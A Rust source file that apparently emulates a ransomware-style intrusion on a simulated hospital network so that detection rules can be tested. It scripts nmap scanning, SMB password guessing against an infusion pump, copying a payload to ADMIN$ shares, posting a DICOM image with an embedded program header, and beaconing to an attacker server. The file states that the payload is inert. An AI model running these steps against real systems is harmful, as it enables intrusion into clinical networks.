//! The attack: a foothold on a workstation, then from machine to machine, with the programs that
//! attackers use. It takes the way of many ransomware cases and stops short of harm.
//!
//! Refuses to harm: what is written begins like a program and is none, nothing is encrypted, and
//! nothing leaves the lab.

use std::fs;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use super::actor::Stage;
use super::cast::{BEACON, CAST, MASTER, REST, address_of, machine_of};
use super::clock::Stop;
use super::ledger::Deed;
use super::program::outcome;
use super::{Error, files, finish};

/// How long the attacker waits for a door to open.
const PATIENCE: Duration = Duration::from_millis(400);
/// How often the program on the pump tries each of its doors.
const KNOCK: Duration = Duration::from_millis(250);
/// How long the program on the pump calls its master before it goes on: ten calls, and some.
const REPORTED: Duration = Duration::from_millis(2_500);
/// Where the attacker's server listens.
pub(crate) const BEACON_PORT: u16 = 443;
/// Wrong passwords that are tried before the right one.
const GUESSES: [&str; 8] =
    ["admin", "password", "123456", "pump", "service", "infusion", "changeme", "default"];
/// The ports that a scan tries, most of them closed everywhere.
const SCANNED: &str = "21,22,23,80,139,445,3389,5900";

/// A step of the attack.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Step {
    /// What the ledger and the truth call it.
    pub(crate) name: &'static str,
    /// From where.
    pub(crate) source: &'static str,
    /// Against whom; nobody where it is against many.
    pub(crate) target: Option<&'static str>,
    /// The rules that have to find it.
    pub(crate) techniques: &'static [&'static str],
    /// What happens, in a sentence.
    pub(crate) sentence: &'static str,
    act: fn(&Stage) -> bool,
}

/// The steps, in order.
pub(crate) const STEPS: [Step; 8] = [
    Step {
        name: "scan",
        source: "workstation",
        target: None,
        techniques: &["threat.service-scan", "threat.fan-out"],
        sentence: "the workstation scans the network with nmap",
        act: scan,
    },
    Step {
        name: "guess",
        source: "workstation",
        target: Some("pump-1"),
        techniques: &["threat.brute-force", "threat.brute-force-success"],
        sentence: "it guesses the password of the pump's service account over SMB",
        act: guess,
    },
    Step {
        name: "plant",
        source: "workstation",
        target: Some("pump-1"),
        techniques: &["threat.remote-share", "threat.tool-transfer"],
        sentence: "it writes a program to the pump's administrative share",
        act: plant,
    },
    Step {
        name: "start",
        source: "workstation",
        target: Some("pump-1"),
        techniques: &["threat.remote-service"],
        sentence: "it reaches for the pump's service manager",
        act: start,
    },
    Step {
        name: "poison",
        source: "workstation",
        target: Some("pacs"),
        techniques: &["threat.embedded-program"],
        sentence: "it sends the archive an image with a program in its preamble",
        act: poison,
    },
    Step {
        name: "report",
        source: "pump-1",
        target: Some(MASTER),
        techniques: &["threat.beacon"],
        sentence: "it calls its master, again and again",
        act: called_home,
    },
    Step {
        name: "spread",
        source: "pump-1",
        target: None,
        techniques: &["threat.service-scan", "threat.fan-out"],
        sentence: "it scans the network",
        act: scan,
    },
    Step {
        name: "move",
        source: "pump-1",
        target: Some("files"),
        techniques: &["threat.remote-share", "threat.tool-transfer"],
        sentence: "it writes itself to the file server's administrative share",
        act: onward,
    },
];

impl Step {
    /// Does it; whether it came about. What it was is in the ledger of the attacker.
    pub(crate) fn act(&self, stage: &Stage) -> bool {
        let done = (self.act)(stage);
        let deed = if done { Deed::Reached } else { Deed::Blocked };
        stage.ledger.write(self.target.unwrap_or("everybody"), deed, self.name);
        done
    }
}

/// All addresses but the attacker's own.
fn targets(own: &str) -> Vec<String> {
    let others = CAST.iter().filter(|machine| machine.name != own);
    others.map(|machine| machine.address().to_string()).collect()
}

fn scan(stage: &Stage) -> bool {
    let mut command = stage.program("nmap");
    command.args(["-n", "-Pn", "-sT", "-T4", "--max-retries", "0", "-p", SCANNED]);
    let (done, printed) = outcome(command.args(targets(stage.machine)));
    done && printed.contains("open")
}

fn guess(stage: &Stage) -> bool {
    let (service, right) = files::SERVICE;
    let try_one = |password| login(stage, "pump-1", (service, password), "IPC$", "exit");
    let mut wrong = GUESSES.iter().map(|guess| try_one(guess));
    wrong.all(|let_in| !let_in) && try_one(right)
}

/// Logs in to a share and does something there; whether it was let in and could.
fn login(stage: &Stage, server: &str, who: (&str, &str), share: &str, what: &str) -> bool {
    let mut command = stage.program("smbclient");
    command.args(files::smb(stage)).arg(format!("//{}/{share}", machine_of(server).address()));
    command.args(["-U", &format!("{}%{}", who.0, who.1), "-c", what]);
    outcome(&mut command).0
}

fn plant(stage: &Stage) -> bool {
    carry(stage, "pump-1", files::SERVICE)
}

fn onward(stage: &Stage) -> bool {
    let (who, password) = files::NURSE.split_once('%').unwrap_or_default();
    carry(stage, "files", (who, password))
}

/// Writes the payload to a machine's administrative share.
fn carry(stage: &Stage, server: &str, who: (&str, &str)) -> bool {
    let made = fs::write(stage.file("update.exe"), files::payload()).is_ok();
    made && login(stage, server, who, "ADMIN$", "put update.exe")
}

fn start(stage: &Stage) -> bool {
    let (service, password) = files::SERVICE;
    let mut command = stage.program("net");
    let none = files::smb(stage);
    command.args(none.iter().take(2)).args(["rpc", "service", "list", "-S"]);
    command.arg(machine_of("pump-1").address().to_string());
    command.args(["-U", &format!("{service}%{password}")]);
    outcome(&mut command).0
}

/// Sends the archive an image over its REST interface, with a program's beginning in its preamble.
fn poison(stage: &Stage) -> bool {
    let (dump, file) = (stage.file("image.dump"), stage.file("image.dcm"));
    let mut make = Command::new("dump2dcm");
    make.arg("-q").args([&dump, &file]);
    let made = fs::write(stage.file("pixels.raw"), "\u{1}\u{2}".repeat(64 * 64)).is_ok()
        && fs::write(&dump, files::image(&files::uid(1_000), stage)).is_ok()
        && finish(&mut make).is_ok();
    let body = fs::read(&file).map(|image| files::poisoned(&image)).unwrap_or_default();
    made && post((machine_of("pacs").address(), REST).into(), "/instances", &body).is_ok()
}

/// Posts a body (RFC 9110, 9.3.3); an error where it is not taken.
fn post(to: SocketAddr, path: &str, body: &[u8]) -> std::io::Result<()> {
    let mut stream = TcpStream::connect_timeout(&to, Duration::from_secs(8))?;
    stream.set_read_timeout(Some(Duration::from_secs(8)))?;
    let length = body.len();
    write!(
        stream,
        "POST {path} HTTP/1.1\r\nHost: pacs\r\nUser-Agent: curl/7.88.1\r\nContent-Type: application/dicom\r\n\
         Content-Length: {length}\r\nConnection: close\r\n\r\n"
    )?;
    stream.write_all(body)?;
    let mut answer = String::new();
    stream.read_to_string(&mut answer)?;
    if answer.starts_with("HTTP/1.1 200") {
        return Ok(());
    }
    Err(std::io::Error::other(answer.lines().next().unwrap_or_default().to_owned()))
}

/// A door at which the attacker knocks for as long as it may: from where, to whom, on what port.
pub(crate) type Door = (&'static str, &'static str, u16);

/// The doors: out of the pump, and into it. All of them open before the pump is contained.
pub(crate) const DOORS: [Door; 7] = [
    ("pump-1", "files", 445),
    ("pump-1", "ehr", 80),
    ("pump-1", "pacs", 8042),
    ("pump-1", "central", 6661),
    ("pump-1", "pump-2", 22),
    ("pump-1", MASTER, BEACON_PORT),
    ("workstation", "pump-1", 445),
];

/// Whether whoever is behind a door answers. A refusal comes from the machine itself: it was
/// reached.
pub(crate) fn answers((_, to, port): Door) -> bool {
    match TcpStream::connect_timeout(&(address_of(to), port).into(), PATIENCE) {
        Ok(_) => true,
        Err(error) => error.kind() == std::io::ErrorKind::ConnectionRefused,
    }
}

/// Knocks at one door until it is told to end.
pub(crate) fn knock(stage: &Stage, over: &Stop, door: Door) {
    let (_, to, port) = door;
    let mut number = 0;
    loop {
        number += 1;
        let deed = if answers(door) { Deed::Reached } else { Deed::Blocked };
        stage.ledger.write(to, deed, &format!("{}-{to}-{port}-{number}", stage.machine));
        if !over.pause(KNOCK) {
            return;
        }
    }
}

/// The program on the pump calls its master for as long as it may; it has done so often enough that
/// whoever watches can know it. Whether its master still answers.
fn called_home(stage: &Stage) -> bool {
    stage.stop.pause(REPORTED) && answers(("pump-1", MASTER, BEACON_PORT))
}

/// The session that the program on the pump keeps with its master: whoever cuts it off has to end
/// sessions that are open, too.
pub(crate) fn obey(stage: &Stage, over: &Stop) {
    let mut session: Option<TcpStream> = None;
    let mut number = 0;
    loop {
        number += 1;
        session = session
            .or_else(|| TcpStream::connect_timeout(&(BEACON, BEACON_PORT).into(), PATIENCE).ok());
        let is_answered = session.as_mut().is_some_and(|session| {
            let mut answer = [0; 6];
            session.set_read_timeout(Some(PATIENCE)).is_ok()
                && session.write_all(b"orders").is_ok()
                && session.read_exact(&mut answer).is_ok()
        });
        let deed = if is_answered { Deed::Reached } else { Deed::Blocked };
        stage.ledger.write(MASTER, deed, &format!("{}-orders-{number}", stage.machine));
        if !over.pause(KNOCK) {
            return;
        }
    }
}

/// The attacker's server: it says back what it hears.
pub(crate) fn master(stage: &Stage) {
    let Ok(listener) = TcpListener::bind((BEACON, BEACON_PORT)) else { return };
    if listener.set_nonblocking(true).is_err() {
        return;
    }
    let mut sessions: Vec<TcpStream> = Vec::new();
    let mut bytes = [0; 512];
    while stage.stop.pause(Duration::from_millis(10)) {
        if let Ok((stream, _)) = listener.accept()
            && stream.set_nonblocking(true).is_ok()
        {
            sessions.push(stream);
        }
        sessions.retain_mut(|session| match session.read(&mut bytes) {
            Ok(0) => false,
            Ok(count) => session.write_all(bytes.get(..count).unwrap_or_default()).is_ok(),
            Err(error) => error.kind() == std::io::ErrorKind::WouldBlock,
        });
    }
}

/// Makes sure that the attacker's tools are there.
pub(crate) fn tools() -> Result<(), Error> {
    let tools = ["/usr/bin/nmap", "/usr/bin/smbclient", "/usr/bin/net"];
    tools.iter().try_for_each(|tool| {
        fs::metadata(Path::new(tool))
            .map(|_| ())
            .map_err(|source| Error::Start { program: (*tool).to_owned(), source })
    })
}
